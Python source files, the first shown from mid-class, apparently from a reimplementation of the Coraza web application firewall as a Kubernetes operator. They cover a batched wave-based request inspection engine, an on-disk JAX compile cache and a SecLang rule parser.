    def __init__(self, ruleset_text: str | None = None,
                 compiled: CompiledRuleSet | None = None,
                 mode: str = "gather"):
        if compiled is None:
            if ruleset_text is None:
                raise ValueError("need ruleset_text or compiled")
            compiled = compile_ruleset(ruleset_text)
        self.compiled = compiled
        self.waf = ReferenceWaf(compiled.ast)
        self.model = WafModel(compiled, mode=mode) if compiled.matchers \
            else None
        self.stats = EngineStats()
        # matcher wave assignment: a rule's gate completes at its slowest
        # matcher's wave; we apply gates incrementally per wave
        self._waves: dict[int, list[Matcher]] = {1: [], 2: [], 3: []}
        for m in compiled.matchers:
            self._waves[_matcher_wave(m)].append(m)

    # ------------------------------------------------------------------
    def _bits_for_wave(self, txs: list[Transaction], wave: int,
                       bits: np.ndarray) -> None:
        matchers = self._waves[wave]
        if not matchers or self.model is None:
            return
        values = []
        for tx in txs:
            per_req: dict[int, list[bytes]] = {}
            for m in matchers:
                per_req[m.mid] = extract_matcher_values(tx, m)
            values.append(per_req)
        wave_mids = [m.mid for m in matchers]
        got = self.model.match_bits(values, only_mids=set(wave_mids))
        bits[:, wave_mids] = got[:, wave_mids]
        self.stats.device_lanes += len(txs) * len(matchers)

    def _apply_gates(self, txs: list[Transaction], bits: np.ndarray,
                     max_wave: int) -> None:
        """Set per-tx rule gates for rules whose matchers complete exactly
        at `max_wave` (earlier-wave rules were already gated)."""
        for r, tx in enumerate(txs):
            gate = tx.gate_bits if tx.gate_bits is not None else {}
            for rid, mids in self.compiled.gate.items():
                rule_wave = max(_matcher_wave(self.compiled.matchers[m])
                                for m in mids)
                if rule_wave != max_wave:
                    # later wave: stays candidate; earlier: already gated
                    continue
                ok = bool(all(bits[r, m] for m in mids))
                gate[rid] = ok
                if not ok:
                    self.stats.gated_rules_skipped += 1
            tx.gate_bits = gate

    # ------------------------------------------------------------------
    def inspect_batch(self, requests: list[HttpRequest],
                      responses: list[HttpResponse | None] | None = None
                      ) -> list[Verdict]:
        if responses is None:
            responses = [None] * len(requests)
        txs = [self.waf.new_transaction(r) for r in requests]
        self.stats.requests += len(requests)
        n_m = self.compiled.n_matchers
        bits = np.zeros((len(txs), n_m), dtype=bool)

        # wave 1: request line + headers
        self._bits_for_wave(txs, 1, bits)
        self._apply_gates(txs, bits, max_wave=1)
        for tx in txs:
            tx.eval_phase(1)

        # wave 2: bodies (processed with phase-1 ctl honored)
        live_pairs = [(i, tx) for i, tx in enumerate(txs)
                      if tx.interruption is None]
        for _, tx in live_pairs:
            tx.process_request_body()
        live_pairs = [(i, tx) for i, tx in live_pairs
                      if tx.interruption is None]
        if live_pairs:
            idx = [i for i, _ in live_pairs]
            live = [tx for _, tx in live_pairs]
            sub = bits[idx].copy()  # fancy index copies; write back below
            self._bits_for_wave(live, 2, sub)
            bits[idx] = sub
            self._apply_gates(live, sub, max_wave=2)
        for _, tx in live_pairs:
            tx.eval_phase(2)

        # waves 3/4: response phases
        resp_live = [
            (i, tx) for i, tx in enumerate(txs)
            if responses[i] is not None and tx.interruption is None]
        if resp_live:
            for i, tx in resp_live:
                tx.process_response(responses[i])
            sub_txs = [tx for _, tx in resp_live]
            idx = [i for i, _ in resp_live]
            sub = np.zeros((len(sub_txs), n_m), dtype=bool)
            sub[:, :] = bits[idx]
            self._bits_for_wave(sub_txs, 3, sub)
            bits[idx] = sub
            self._apply_gates(sub_txs, bits[idx], max_wave=3)
            for _, tx in resp_live:
                tx.eval_phase(3)
                if tx.interruption is None:
                    tx.eval_phase(4)
        for tx in txs:
            tx.eval_phase_5_logging()
        return [self.waf._verdict(tx) for tx in txs]

    def inspect(self, request: HttpRequest,
                response: HttpResponse | None = None) -> Verdict:
        return self.inspect_batch([request], [response])[0]
