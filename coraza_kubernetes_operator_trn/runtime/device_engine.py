"""DeviceWafEngine — single-tenant batched inspection.

A thin wrapper over MultiTenantEngine with one fixed tenant: the device
scans every matcher against every value wave-by-wave, match bits gate which
rules the host engine re-evaluates exactly, so verdicts are bit-compatible
with ReferenceWaf by construction (differential tests enforce it). Clean
traffic — the overwhelming majority — touches the host engine only for
always-candidate rules (numeric/TX bookkeeping).

Phase waves mirror the proxy reality: phase-1 values (URI/headers) exist
before the body arrives; body-derived targets are packed only after host
phase 1 ran (so ctl:requestBodyProcessor is honored exactly). See
runtime/multitenant.py for the wave-walk and the cross-tenant batching
design (reference: SURVEY.md §3.5 — the loop this replaces).
"""

from __future__ import annotations

from ..compiler.compile import CompiledRuleSet
from ..engine.reference import Verdict
from ..engine.transaction import HttpRequest, HttpResponse
from .multitenant import EngineStats, MultiTenantEngine

_TENANT = "default"


class DeviceWafEngine:
    """The trn data-plane engine, single-tenant convenience surface."""

    def __init__(self, ruleset_text: str | None = None,
                 compiled: CompiledRuleSet | None = None,
                 mode: "str | None" = None,
                 sync_dispatch: bool | None = None,
                 scan_stride: "int | str | None" = None,
                 rp_context=None,
                 fast_accept: "bool | None" = None):
        self._mt = MultiTenantEngine(mode=mode,
                                     sync_dispatch=sync_dispatch,
                                     scan_stride=scan_stride,
                                     rp_context=rp_context,
                                     fast_accept=fast_accept)
        self._mt.set_tenant(_TENANT, ruleset_text=ruleset_text,
                            compiled=compiled)
        self.compiled = self._mt.tenants[_TENANT].compiled
        self.waf = self._mt.tenants[_TENANT].waf

    @property
    def stats(self) -> EngineStats:
        return self._mt.stats

    @property
    def model(self):
        return self._mt.model

    def reload(self, ruleset_text: str | None = None,
               compiled: CompiledRuleSet | None = None) -> None:
        """Hot-swap the ruleset; in-flight batches finish on old tables."""
        self._mt.set_tenant(_TENANT, ruleset_text=ruleset_text,
                            compiled=compiled)
        self.compiled = self._mt.tenants[_TENANT].compiled
        self.waf = self._mt.tenants[_TENANT].waf

    @property
    def trace_recorder(self):
        return self._mt.trace_recorder

    @trace_recorder.setter
    def trace_recorder(self, recorder) -> None:
        self._mt.trace_recorder = recorder

    @property
    def profiler(self):
        return self._mt.profiler

    @profiler.setter
    def profiler(self, profiler) -> None:
        self._mt.profiler = profiler

    @property
    def compile_cache(self):
        return self._mt.compile_cache

    @compile_cache.setter
    def compile_cache(self, cache) -> None:
        self._mt.compile_cache = cache

    def inspect_batch(self, requests: list[HttpRequest],
                      responses: list[HttpResponse | None] | None = None,
                      trace_ctxs: "list | None" = None
                      ) -> list[Verdict]:
        if responses is None:
            responses = [None] * len(requests)
        return self._mt.inspect_batch(
            [(_TENANT, r, resp) for r, resp in zip(requests, responses)],
            trace_ctxs=trace_ctxs)

    def inspect(self, request: HttpRequest,
                response: HttpResponse | None = None,
                trace_ctx=None) -> Verdict:
        return self.inspect_batch(
            [request], [response],
            trace_ctxs=None if trace_ctx is None else [trace_ctx])[0]
