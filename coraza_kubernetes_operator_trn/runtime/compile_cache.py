"""Persistent on-disk compile cache: kill the cold-start cliff.

BENCH_r02 measured a 984 s cold warm-pass vs 22 s once neuronx-cc's NEFF
cache is hot — every fresh deploy of the data plane eats minutes of
compile before serving its first request. This module makes the compiled
programs themselves an artifact: at trace time the jitted program is
AOT-compiled (``jit.trace() -> .lower() -> .compile()``), serialized via
``jax.experimental.serialize_executable`` and written under
``WAF_COMPILE_CACHE_DIR``; a fresh process consults the directory BEFORE
tracing and loads the executable straight off disk, so the first batch
runs with zero blocking jit traces (``tools/waf_warm.py`` pre-populates
the directory at artifact-publish time).

Cache key design (two levels, both value-independent):

- The canonical identity of a program is waf-audit's trace digest
  (``analysis/audit/graph.trace_digest``): a sha256 over the pretty
  printed jaxpr, which carries shapes/dtypes/statics but NOT operand
  values (PR 8's hot-reload-can't-recompile invariant). Payloads are
  stored under ``{digest}-{salt}.bin``.
- Computing the digest requires a trace — exactly what a warm start must
  avoid. So lookups go through a cheap *signature*: a sha256 over
  (program tag, static argument values, the arg pytree structure and
  leaf shapes/dtypes, jax version, backend). Because programs are value
  independent, equal signatures imply equal jaxprs and hence equal
  digests, so ``{sig}.key`` index files simply name the payload the
  signature resolved to last time. A trace-free warm lookup is
  sig -> .key -> .bin -> ``deserialize_and_load``.

Failure contract: the cache is an accelerator, never a dependency.
Corrupt, truncated, version-mismatched or unreadable entries (and an
unwritable directory) count an error and silently fall through to a
fresh in-process trace — serving degrades to exactly the pre-cache
behavior, it never crashes or blocks the dispatch loop. The chaos kinds
``cache-read-failure`` / ``cache-write-failure``
(runtime/resilience.FaultInjector) drill both paths in tier-1.
"""

from __future__ import annotations

import os
import pickle
import threading
import time

from ..config import env as envcfg

# payload/index file suffixes under WAF_COMPILE_CACHE_DIR
_KEY_SUFFIX = ".key"
_BIN_SUFFIX = ".bin"


def _salt() -> str:
    """Version salt baked into signatures and payload names: a payload
    serialized by one (jax, backend) pair is never loaded by another."""
    import jax

    return f"{jax.__version__}:{jax.default_backend()}"


def _leaf_spec(leaf) -> tuple:
    if hasattr(leaf, "shape") and hasattr(leaf, "dtype"):
        return ("arr", tuple(leaf.shape), str(leaf.dtype))
    return ("val", repr(leaf))


def signature(tag: str, statics: tuple, dyn_args: tuple) -> str:
    """Trace-free cache signature of one program call (hex sha256)."""
    import hashlib

    import jax

    leaves, treedef = jax.tree_util.tree_flatten(dyn_args)
    spec = (tag, repr(statics), str(treedef),
            tuple(_leaf_spec(leaf) for leaf in leaves), _salt())
    h = hashlib.sha256(repr(spec).encode("utf-8"))
    return h.hexdigest()[:32]


class CompileCache:
    """Directory of serialized XLA executables + counters.

    All disk and deserialization failures are swallowed (``errors`` is
    bumped) and surface as a miss; the caller then traces in-process.
    Counters back ``waf_compile_cache_{hits,misses,evictions,bytes}_total``
    via ``Metrics.compile_cache_provider``.
    """

    def __init__(self, cache_dir: str, max_bytes: int = 0,
                 fault_injector=None) -> None:
        self.dir = cache_dir
        self.max_bytes = max_bytes
        self.fault = fault_injector
        self._lock = threading.Lock()
        self.hits = 0          # executables served from disk
        self.misses = 0        # lookups that found nothing usable
        self.evictions = 0     # payload files removed by the size cap
        self.errors = 0        # IO/deserialize failures (degrade, not fail)
        self.bytes_total = 0   # payload bytes written by THIS process
        self.fresh_traces = 0  # programs traced+compiled in-process
        self.compile_seconds = 0.0  # wall time spent in those fresh traces

    @classmethod
    def from_env(cls, fault_injector=None) -> "CompileCache | None":
        """None when WAF_COMPILE_CACHE_DIR is unset/empty (cache off)."""
        cache_dir = envcfg.get_str("WAF_COMPILE_CACHE_DIR").strip()
        if not cache_dir:
            return None
        return cls(cache_dir,
                   max_bytes=envcfg.get_int("WAF_COMPILE_CACHE_MAX_BYTES"),
                   fault_injector=fault_injector)

    # -- disk paths --------------------------------------------------------
    def _key_path(self, sig: str) -> str:
        return os.path.join(self.dir, sig + _KEY_SUFFIX)

    def _bin_name(self, digest: str) -> str:
        import hashlib

        salt8 = hashlib.sha256(_salt().encode()).hexdigest()[:8]
        return f"{digest}-{salt8}{_BIN_SUFFIX}"

    # -- lookup ------------------------------------------------------------
    def load(self, sig: str):
        """Signature -> loaded ``jax.stages.Compiled``, or None (miss).

        Missing index/payload is a plain miss; a present-but-unloadable
        entry (truncated pickle, wrong version, injected read fault) is
        an error AND a miss — either way the caller falls through to a
        fresh trace and serving continues.
        """
        try:
            if self.fault is not None:
                self.fault.check("cache-read-failure")
            key_path = self._key_path(sig)
            if not os.path.exists(key_path):
                with self._lock:
                    self.misses += 1
                return None
            with open(key_path, encoding="utf-8") as f:
                bin_name = f.read().strip()
            bin_path = os.path.join(self.dir, os.path.basename(bin_name))
            if not os.path.exists(bin_path):
                # payload evicted out from under the index: plain miss
                with self._lock:
                    self.misses += 1
                return None
            with open(bin_path, "rb") as f:
                blob = f.read()
            from jax.experimental import serialize_executable

            payload, in_tree, out_tree = pickle.loads(blob)
            compiled = serialize_executable.deserialize_and_load(
                payload, in_tree, out_tree)
        except Exception:
            with self._lock:
                self.errors += 1
                self.misses += 1
            return None
        with self._lock:
            self.hits += 1
        return compiled

    # -- populate ----------------------------------------------------------
    def trace_and_compile(self, jitted, dyn_args: tuple):
        """In-process AOT path: trace -> digest -> compile. Returns
        (compiled, digest). Raises whatever jax raises — the CachedJit
        wrapper falls back to the plain jit call on failure."""
        from ..analysis.audit.graph import trace_digest

        t0 = time.monotonic()
        traced = jitted.trace(*dyn_args)
        digest = trace_digest(traced.jaxpr)
        compiled = traced.lower().compile()
        t1 = time.monotonic()
        with self._lock:
            self.fresh_traces += 1
            self.compile_seconds += t1 - t0
        return compiled, digest

    def store(self, sig: str, digest: str, compiled) -> None:
        """Serialize ``compiled`` under its digest and point ``sig`` at
        it. Write failures (unwritable dir, injected fault) bump errors
        and return — the executable still serves from memory."""
        try:
            if self.fault is not None:
                self.fault.check("cache-write-failure")
            from jax.experimental import serialize_executable

            payload, in_tree, out_tree = serialize_executable.serialize(
                compiled)
            blob = pickle.dumps((payload, in_tree, out_tree),
                                protocol=pickle.HIGHEST_PROTOCOL)
            os.makedirs(self.dir, exist_ok=True)
            bin_name = self._bin_name(digest)
            bin_path = os.path.join(self.dir, bin_name)
            tmp = bin_path + f".tmp{os.getpid()}"
            with open(tmp, "wb") as f:
                f.write(blob)
            os.replace(tmp, bin_path)  # atomic: readers never see partials
            key_path = self._key_path(sig)
            tmp = key_path + f".tmp{os.getpid()}"
            with open(tmp, "w", encoding="utf-8") as f:
                f.write(bin_name)
            os.replace(tmp, key_path)
        except Exception:
            with self._lock:
                self.errors += 1
            return
        with self._lock:
            self.bytes_total += len(blob)
        self._evict()

    def _evict(self) -> None:
        """Drop oldest payloads past WAF_COMPILE_CACHE_MAX_BYTES (0 =
        unbounded). Index files pointing at an evicted payload degrade
        to a miss on the next lookup."""
        if self.max_bytes <= 0:
            return
        try:
            bins = []
            for name in os.listdir(self.dir):
                if not name.endswith(_BIN_SUFFIX):
                    continue
                path = os.path.join(self.dir, name)
                st = os.stat(path)
                bins.append((st.st_mtime, st.st_size, path))
            total = sum(size for _, size, _ in bins)
            bins.sort()  # oldest first
            for _, size, path in bins:
                if total <= self.max_bytes:
                    break
                os.remove(path)
                total -= size
                with self._lock:
                    self.evictions += 1
        except OSError:
            with self._lock:
                self.errors += 1

    # -- telemetry ---------------------------------------------------------
    def stats(self) -> dict:
        with self._lock:
            return {
                "hits": self.hits,
                "misses": self.misses,
                "evictions": self.evictions,
                "errors": self.errors,
                "bytes_total": self.bytes_total,
                "fresh_traces": self.fresh_traces,
                "compile_seconds": self.compile_seconds,
            }


class CachedJit:
    """Drop-in for ``jax.jit(fn, static_argnums=...)`` backed by a
    CompileCache.

    Statics are closed over with ``functools.partial``-style wrappers
    before tracing (one closed jit per static combo, exactly the shape
    ``WafModel._get_jitted`` already uses), so the AOT path only ever
    sees dynamic array arguments. Per call: an in-memory Compiled keyed
    by the trace-free signature; on miss, the disk cache; on disk miss,
    trace+compile in-process and write back. Any failure anywhere falls
    back to the plain ``jax.jit`` call path — behavior with a broken or
    absent cache is bit-identical to no cache at all.
    """

    def __init__(self, fn, cache: "CompileCache | None",
                 static_argnums: tuple = (), tag: str = "") -> None:
        self._fn = fn
        self._cache = cache
        self._static = tuple(static_argnums)
        self._tag = tag or getattr(fn, "__name__", "fn")
        self._closed_jits: dict = {}   # statics combo -> plain jax.jit
        self._compiled: dict = {}      # signature -> Compiled
        self._lock = threading.Lock()

    def _split(self, args: tuple) -> tuple:
        statics = tuple(args[i] for i in self._static)
        dyn = tuple(a for i, a in enumerate(args)
                    if i not in self._static)
        return statics, dyn

    def _closed_jit(self, statics: tuple):
        """The plain jit with ``statics`` baked in (trace + fallback)."""
        with self._lock:
            jitted = self._closed_jits.get(statics)
        if jitted is not None:
            return jitted
        import jax

        fn, static_idx = self._fn, self._static

        def closed(*dyn):
            args, si, di = [], 0, 0
            for i in range(len(statics) + len(dyn)):
                if i in static_idx:
                    args.append(statics[si])
                    si += 1
                else:
                    args.append(dyn[di])
                    di += 1
            return fn(*args)

        jitted = jax.jit(closed)
        with self._lock:
            self._closed_jits.setdefault(statics, jitted)
            return self._closed_jits[statics]

    def __call__(self, *args):
        cache = self._cache
        statics, dyn = self._split(args)
        if cache is None:
            return self._closed_jit(statics)(*dyn)
        sig = signature(self._tag, statics, dyn)
        with self._lock:
            compiled = self._compiled.get(sig)
        if compiled is None:
            compiled = cache.load(sig)
            if compiled is None:
                try:
                    jitted = self._closed_jit(statics)
                    compiled, digest = cache.trace_and_compile(jitted, dyn)
                except Exception:
                    with cache._lock:
                        cache.errors += 1
                    return self._closed_jit(statics)(*dyn)
                cache.store(sig, digest, compiled)
            with self._lock:
                self._compiled[sig] = compiled
        try:
            return compiled(*dyn)
        except Exception:
            # a loaded executable that won't run (stale layout, corrupt
            # deserialization that only fails at call time): drop it and
            # serve through the plain jit path
            with self._lock:
                self._compiled.pop(sig, None)
            with cache._lock:
                cache.errors += 1
            return self._closed_jit(statics)(*dyn)


def cached_jit(fn, cache: "CompileCache | None",
               static_argnums: tuple = (), tag: str = ""):
    """``jax.jit`` when ``cache`` is None (zero overhead, zero behavior
    change), else a CachedJit."""
    if cache is None:
        import jax

        return (jax.jit(fn, static_argnums=static_argnums)
                if static_argnums else jax.jit(fn))
    return CachedJit(fn, cache, static_argnums=static_argnums, tag=tag)
