"""SecLang front-end: lexer, parser, and AST.

Covers the directive/rule grammar exercised by the reference corpus
(reference: config/samples/ruleset.yaml, hack/generate_coreruleset_configmaps.py)
plus the OWASP CRS constructs: SecRule / SecAction / SecMarker /
SecDefaultAction, engine/body directives, variable collections with
selectors/exclusions/counts, operators, transformation chains, actions with
macro arguments, chained rules.
"""

from .ast import (  # noqa: F401
    Action,
    Directive,
    Marker,
    Operator,
    Rule,
    RuleSetAST,
    Transformation,
    Variable,
)
from .errors import SecLangError  # noqa: F401
from .parser import parse  # noqa: F401
