"""SecLang parser: logical lines -> RuleSetAST.

Grammar coverage is driven by the reference corpus: the sample rulesets
(reference: config/samples/ruleset.yaml), the CRS base rules embedded in
hack/generate_coreruleset_configmaps.py, and OWASP CRS 4.x rule shapes.
"""

from __future__ import annotations

from .ast import (
    Action,
    Directive,
    Marker,
    Operator,
    Rule,
    RuleSetAST,
    Transformation,
    Variable,
)
from .errors import SecLangError
from .lexer import logical_lines, split_tokens

# Known variable collections (superset of what CRS uses). Unknown collections
# raise, mirroring the reference's parse-to-validate gate
# (reference: internal/controller/ruleset_controller.go:158-171).
KNOWN_COLLECTIONS = {
    "ARGS", "ARGS_GET", "ARGS_POST", "ARGS_NAMES", "ARGS_GET_NAMES",
    "ARGS_POST_NAMES", "ARGS_COMBINED_SIZE", "QUERY_STRING", "REQUEST_URI",
    "REQUEST_URI_RAW", "REQUEST_BASENAME", "REQUEST_FILENAME", "PATH_INFO",
    "REQUEST_METHOD", "REQUEST_PROTOCOL", "REQUEST_LINE", "REQUEST_HEADERS",
    "REQUEST_HEADERS_NAMES", "REQUEST_COOKIES", "REQUEST_COOKIES_NAMES",
    "REQUEST_BODY", "REQUEST_BODY_LENGTH", "FILES", "FILES_NAMES",
    "FILES_SIZES", "FILES_COMBINED_SIZE", "FILES_TMP_CONTENT",
    "MULTIPART_FILENAME", "MULTIPART_NAME", "MULTIPART_PART_HEADERS",
    "MULTIPART_STRICT_ERROR", "MULTIPART_UNMATCHED_BOUNDARY",
    "RESPONSE_BODY", "RESPONSE_HEADERS", "RESPONSE_STATUS",
    "RESPONSE_PROTOCOL", "RESPONSE_CONTENT_TYPE", "RESPONSE_CONTENT_LENGTH",
    "REMOTE_ADDR", "REMOTE_HOST", "REMOTE_PORT", "REMOTE_USER", "SERVER_ADDR",
    "SERVER_NAME", "SERVER_PORT", "AUTH_TYPE", "DURATION", "ENV",
    "HIGHEST_SEVERITY", "MATCHED_VAR", "MATCHED_VAR_NAME", "MATCHED_VARS",
    "MATCHED_VARS_NAMES", "REQBODY_ERROR", "REQBODY_ERROR_MSG",
    "REQBODY_PROCESSOR", "REQBODY_PROCESSOR_ERROR",
    "REQBODY_PROCESSOR_ERROR_MSG", "RULE", "SESSION", "SESSIONID", "TIME",
    "TIME_DAY", "TIME_EPOCH", "TIME_HOUR", "TIME_MIN", "TIME_MON", "TIME_SEC",
    "TIME_WDAY", "TIME_YEAR", "TX", "UNIQUE_ID", "URLENCODED_ERROR", "USERID",
    "USERAGENT_IP", "WEBAPPID", "XML", "JSON", "GEO", "IP", "GLOBAL",
    "RESOURCE", "STATUS_LINE", "FULL_REQUEST", "FULL_REQUEST_LENGTH",
}

KNOWN_OPERATORS = {
    "rx", "pm", "contains", "containsword", "streq", "strmatch",
    "eq", "ge", "gt", "le", "lt", "beginswith", "endswith", "within",
    "validatebyterange", "validateurlencoding", "validateutf8encoding",
    "detectsqli", "detectxss", "ipmatch", "rbl", "geolookup",
    "verifycc", "verifyssn", "inspectfile", "fuzzyhash", "unconditionalmatch",
    "nomatch", "rsub", "validateschema",
}

# @...FromFile operators read rule-data files at parse time; the reference
# builds Coraza with `-tags no_fs_access` (reference: Makefile:41-43), so
# these fail rule LOADING there — mirrored here as a parse error with a
# dedicated message (the CRS generator drops such rules up front, matching
# reference: hack/generate_coreruleset_configmaps.py:242-246).
FS_OPERATORS = {"pmfromfile", "ipmatchfromfile"}

KNOWN_TRANSFORMS = {
    "none", "lowercase", "uppercase", "urldecode", "urldecodeuni", "urlencode",
    "htmlentitydecode", "removenulls", "replacenulls", "removewhitespace",
    "compresswhitespace", "replacecomments", "removecomments",
    "removecommentschar", "cmdline", "normalisepath", "normalizepath",
    "normalisepathwin", "normalizepathwin", "trim", "trimleft", "trimright",
    "length", "base64decode", "base64decodeext", "base64encode", "hexdecode",
    "hexencode", "jsdecode", "cssdecode", "escapeseqdecode", "utf8tounicode",
    "sha1", "md5", "sqlhexdecode", "parityeven7bit", "parityodd7bit",
    "parityzero7bit",
}

KNOWN_ACTIONS = {
    "id", "phase", "msg", "logdata", "tag", "rev", "ver", "severity",
    "maturity", "accuracy", "deny", "drop", "block", "redirect", "allow",
    "pass", "proxy", "status", "chain", "capture", "multimatch", "setvar",
    "setenv", "setuid", "setsid", "setrsc", "expirevar", "initcol", "ctl",
    "skip", "skipafter", "log", "nolog", "auditlog", "noauditlog",
    "sanitisearg", "sanitiserequestheader", "sanitisematched",
    "sanitisematchedbytes", "exec", "deprecatevar",
}

_PHASE_NAMES = {"request": 2, "response": 4, "logging": 5}

_RULE_DIRECTIVES = {"secrule", "secaction"}


def parse(text: str) -> RuleSetAST:
    """Parse SecLang text into a RuleSetAST. Raises SecLangError."""
    ast = RuleSetAST()
    chain_head: list[Rule] = []  # 0- or 1-element: head awaiting chain links
    for lineno, line in logical_lines(text):
        tokens = split_tokens(line, lineno)
        if not tokens:
            continue
        name = tokens[0].lower()
        if name == "secrule":
            if len(tokens) < 3:
                raise SecLangError("SecRule needs VARIABLES and OPERATOR", lineno)
            rule = Rule(raw=line, line=lineno)
            rule.variables = parse_variables(tokens[1], lineno)
            rule.operator = parse_operator(tokens[2], lineno)
            if len(tokens) >= 4:
                _apply_actions(rule, tokens[3], lineno)
            if len(tokens) > 4:
                raise SecLangError(
                    f"unexpected trailing tokens: {tokens[4:]}", lineno)
            _attach(ast, chain_head, rule, lineno)
        elif name == "secaction":
            if len(tokens) < 2:
                raise SecLangError("SecAction needs an action list", lineno)
            rule = Rule(raw=line, line=lineno, is_sec_action=True)
            rule.operator = Operator("unconditionalmatch", "")
            _apply_actions(rule, tokens[1], lineno)
            _attach(ast, chain_head, rule, lineno)
        elif name == "secmarker":
            if len(tokens) != 2:
                raise SecLangError("SecMarker needs exactly one label", lineno)
            ast.items.append(Marker(label=tokens[1], line=lineno))
        else:
            if not name.startswith("sec"):
                raise SecLangError(f"unknown directive {tokens[0]!r}", lineno)
            ast.items.append(
                Directive(name=name, args=tuple(tokens[1:]), line=lineno))
    if chain_head:
        raise SecLangError(
            "rule has 'chain' action but no following rule",
            chain_head[0].line)
    return ast


def _attach(ast: RuleSetAST, chain_head: list[Rule], rule: Rule,
            lineno: int) -> None:
    """Append a rule, resolving chain links onto the pending head.

    Chain semantics (same as Coraza): a rule with the ``chain`` action makes
    the next rule a link of the head; a link that itself carries ``chain``
    keeps the chain open. Links never carry ids.
    """
    if chain_head:
        head = chain_head[0]
        if rule.id:
            raise SecLangError("chain link rules must not set an id", lineno)
        head.chain_rules.append(rule)
        # Coraza runs the whole chain at the head's phase; links never carry
        # phase:, so propagate it here — default-action (transform)
        # inheritance for links then resolves against the head's phase in
        # both the host engine and the device compiler.
        rule.phase = head.phase
        if not rule.chained:
            chain_head.clear()
    else:
        if not rule.is_sec_action and rule.id == 0:
            raise SecLangError("rule without id", lineno)
        ast.items.append(rule)
        if rule.chained:
            chain_head.append(rule)


def parse_variables(spec: str, lineno: int = 0) -> list[Variable]:
    out: list[Variable] = []
    for part in _split_pipe(spec):
        part = part.strip()
        if not part:
            raise SecLangError("empty variable in target list", lineno)
        exclude = count = False
        while part and part[0] in "!&":
            if part[0] == "!":
                exclude = True
            else:
                count = True
            part = part[1:]
        if ":" in part:
            coll, sel = part.split(":", 1)
        else:
            coll, sel = part, None
        coll = coll.upper()
        if coll not in KNOWN_COLLECTIONS:
            raise SecLangError(f"unknown variable collection {coll!r}", lineno)
        sel_is_regex = False
        if sel is not None:
            sel = sel.strip()
            if len(sel) >= 2 and sel.startswith("/") and sel.endswith("/"):
                sel_is_regex = True
                sel = sel[1:-1]
            elif sel == "/*":  # XML:/* style xpath; keep verbatim
                pass
            else:
                sel = sel.strip("'")
                sel = sel.lower()
        out.append(Variable(collection=coll, selector=sel, count=count,
                            exclude=exclude, selector_is_regex=sel_is_regex))
    if not out:
        raise SecLangError("empty variable list", lineno)
    return out


def _split_pipe(spec: str) -> list[str]:
    """Split on ``|`` not inside a ``/regex/`` selector.

    A regex selector begins at ``:/``; it spans to the next unescaped ``/``
    (``\\/`` stays inside the regex). XPath selectors (``XML:/*``,
    ``JSON:/...``) are NOT regex spans, and a ``:/`` with no closing ``/``
    anywhere ahead is also taken literally.
    """
    parts: list[str] = []
    buf: list[str] = []
    i, n = 0, len(spec)
    while i < n:
        c = spec[i]
        if c == "|":
            parts.append("".join(buf))
            buf = []
            i += 1
            continue
        if c == ":" and i + 1 < n and spec[i + 1] == "/":
            # token so far since the last split decides xpath-vs-regex
            coll = "".join(buf).split("|")[-1].lstrip("!&").upper()
            close = _find_unescaped(spec, "/", i + 2)
            if coll in ("XML", "JSON") or close == -1:
                buf.append(c)  # literal ':' — '/' handled next iteration
                i += 1
                continue
            buf.append(spec[i:close + 1])
            i = close + 1
            continue
        buf.append(c)
        i += 1
    parts.append("".join(buf))
    return parts


def _find_unescaped(s: str, ch: str, start: int) -> int:
    i = start
    while i < len(s):
        if s[i] == "\\":
            i += 2
            continue
        if s[i] == ch:
            return i
        i += 1
    return -1


def parse_operator(spec: str, lineno: int = 0) -> Operator:
    negated = False
    s = spec
    if s.startswith("!"):
        negated = True
        s = s[1:]
    if s.startswith("@"):
        parts = s[1:].split(None, 1)
        if not parts:
            raise SecLangError("empty operator name after '@'", lineno)
        name = parts[0].lower()
        arg = parts[1] if len(parts) > 1 else ""
        if name in FS_OPERATORS:
            raise SecLangError(
                f"operator @{parts[0]} requires file access, which this "
                "data plane (like the reference's no_fs_access build) "
                "does not provide", lineno)
        if name not in KNOWN_OPERATORS:
            raise SecLangError(f"unknown operator @{parts[0]}", lineno)
        return Operator(name=name, argument=arg, negated=negated)
    # bare pattern == @rx
    return Operator(name="rx", argument=s, negated=negated)


def split_actions(spec: str, lineno: int = 0) -> list[tuple[str, str | None]]:
    """Split a raw action string on top-level commas.

    Single-quoted argument spans may contain commas/colons. Returns
    (name, argument) pairs with quotes stripped from arguments.
    """
    items: list[str] = []
    buf: list[str] = []
    in_sq = False
    i, n = 0, len(spec)
    while i < n:
        c = spec[i]
        if c == "'" and (i == 0 or spec[i - 1] != "\\"):
            in_sq = not in_sq
            buf.append(c)
        elif c == "," and not in_sq:
            items.append("".join(buf))
            buf = []
        else:
            buf.append(c)
        i += 1
    items.append("".join(buf))
    out: list[tuple[str, str | None]] = []
    for item in items:
        item = item.strip()
        if not item:
            continue
        if ":" in item:
            name, arg = item.split(":", 1)
            name = name.strip().lower()
            arg = arg.strip()
            if len(arg) >= 2 and arg[0] == "'" and arg[-1] == "'":
                arg = arg[1:-1].replace("\\'", "'")
            out.append((name, arg))
        else:
            out.append((item.lower(), None))
    if in_sq:
        raise SecLangError("unterminated single quote in actions", lineno)
    return out


def _apply_actions(rule: Rule, spec: str, lineno: int) -> None:
    for name, arg in split_actions(spec, lineno):
        if name == "t":
            rule.has_transforms = True
            tname = (arg or "").lower()
            if tname not in KNOWN_TRANSFORMS:
                raise SecLangError(f"unknown transformation t:{arg}", lineno)
            if tname == "none":
                rule.transformations = []
                rule.written_transforms.append("none")
            else:
                # normalize British spellings to one canonical name
                tname = tname.replace("normalise", "normalize")
                rule.transformations.append(Transformation(tname))
                rule.written_transforms.append(tname)
            continue
        if name not in KNOWN_ACTIONS:
            raise SecLangError(f"unknown action {name!r}", lineno)
        if name == "id":
            try:
                rule.id = int(arg or "")
            except ValueError:
                raise SecLangError(f"invalid rule id {arg!r}", lineno) from None
        elif name == "phase":
            a = (arg or "").lower()
            if a in _PHASE_NAMES:
                rule.phase = _PHASE_NAMES[a]
            else:
                try:
                    rule.phase = int(a)
                except ValueError:
                    raise SecLangError(f"invalid phase {arg!r}", lineno) from None
                if not 1 <= rule.phase <= 5:
                    raise SecLangError(f"phase out of range: {rule.phase}", lineno)
        elif name == "chain":
            rule.chained = True
        elif name == "skip":
            try:
                if int(arg or "") < 1:
                    raise ValueError
            except ValueError:
                raise SecLangError(
                    f"skip needs a positive integer, got {arg!r}", lineno
                ) from None
        elif name == "skipafter":
            if not arg:
                raise SecLangError("skipAfter needs a marker label", lineno)
        rule.actions.append(Action(name=name, argument=arg))
