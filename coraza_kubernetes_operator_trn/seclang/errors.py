class SecLangError(ValueError):
